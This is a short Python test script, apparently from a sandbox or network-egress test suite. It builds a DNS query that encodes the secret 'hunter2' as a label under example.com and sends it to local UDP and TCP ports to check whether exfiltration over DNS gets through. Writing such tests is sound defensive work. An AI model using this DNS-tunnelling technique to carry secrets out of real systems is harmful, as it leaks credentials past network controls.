# tries: to send a secret out in a question to a name server (RFC 1035, section 4.1), over UDP and TCP
# bare: always
# hosts: localhost:$UDP_PORT localhost:$TCP_PORT
import socket
import struct
from kernel import env
from proxied import attempt

name = b''.join(bytes([len(part)]) + part for part in (b'hunter2', b'example', b'com')) + b'\0'
question = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)


def by_udp():
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(2)
    client.sendto(question, ('127.0.0.1', int(env('UDP_PORT'))))
    return len(client.recv(64)) > 0


def by_tcp():
    client = socket.create_connection(('127.0.0.1', int(env('TCP_PORT'))), 2)
    client.sendall(struct.pack('>H', len(question)) + question)
    return len(client.recv(64)) > 0


attempt(by_udp)
attempt(by_tcp)
